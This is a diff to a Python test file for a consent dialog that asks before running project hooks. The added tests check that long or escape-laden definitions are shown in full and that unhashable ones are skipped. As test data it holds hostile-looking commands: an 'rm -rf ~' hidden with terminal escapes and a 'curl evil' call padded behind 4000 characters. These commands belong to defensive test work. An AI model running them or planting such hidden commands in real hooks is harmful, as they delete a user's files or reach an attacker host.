@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import asyncio
+import functools
 import subprocess
 import sys
 from collections.abc import Sequence
@@ -10,6 +11,7 @@ from typing import Any
 import pytest
 
 from pi.base.clock import SystemClock
+from pi.base.records import replace
 from pi.coding.consent import (
     ALLOW,
     ALLOW_ONCE,
@@ -36,6 +38,10 @@ class Answers(ExtensionUI):
     def __init__(self, *answers: str | None) -> None:
         self.answers = list(answers)
         self.questions: list[str] = []
+        self.written: list[str] = []
+
+    def write(self, text: str) -> None:
+        self.written.append(text)
 
     @property
     def has_ui(self) -> bool:
@@ -152,14 +158,44 @@ async def test_the_dialog_shows_the_whole_definition_without_escapes(store: Cons
 
     await consent(store).allowed([hidden], user)
 
-    assert user.questions[0].splitlines()[:5] == [
+    assert user.questions[0].splitlines()[:6] == [
         "Run the hook x?",
         "Defined in /project/.pi/hooks.json",
+        "The definition is long. Read the whole of it above before you allow it.",
         "",
         'args: ["-l"]',
         r'command: "rm -rf ~\u001b[2K\rls"',
     ]
     assert "more lines in /project/.pi/hooks.json" in user.questions[0]
+
+
+async def test_a_command_cannot_hide_its_end_behind_a_long_beginning(store: ConsentStore) -> None:
+    user = Answers(DENY.label, DENY.label)
+    long = replace(HOOK, definition={"command": f"make {'x' * 4000}; curl evil"})
+
+    await consent(store).allowed([long, HOOK], user)
+
+    (written,) = user.written  # in the transcript, where nothing is cut off
+    assert written.endswith('xx; curl evil"')
+    assert "Read the whole of it above" in user.questions[0]
+    assert "above" not in user.questions[1]
+
+
+@pytest.mark.parametrize("command", ["\ud800", {"a": {1: 2}}, "deep"])
+async def test_a_definition_that_cannot_be_hashed_is_skipped_and_the_others_are_decided(
+    store: ConsentStore, command: object
+) -> None:
+    if command == "deep":
+        nested: list[Any] = []
+        command = functools.reduce(lambda inner, _: [inner], range(5000), nested)
+    odd = replace(HOOK, name="odd", definition={"command": command})
+    warnings: list[str] = []
+
+    allowed = await consent(store, warnings).allowed([odd, HOOK], Answers(ALLOW.label))
+
+    assert allowed == [HOOK]
+    (line,) = warnings
+    assert line.startswith("Skipped hook odd: ")
 
 
 async def test_two_requests_for_one_definition_ask_once(store: ConsentStore) -> None:
@@ -190,6 +226,7 @@ DECIDE = """
 import sys
 from pathlib import Path
 from pi.base.clock import SystemClock
+from pi.base.records import replace
 from pi.coding.consent import ConsentRequest, ConsentStore
 store = ConsentStore(Path(sys.argv[1]), clock=SystemClock())
 for n in range(10):
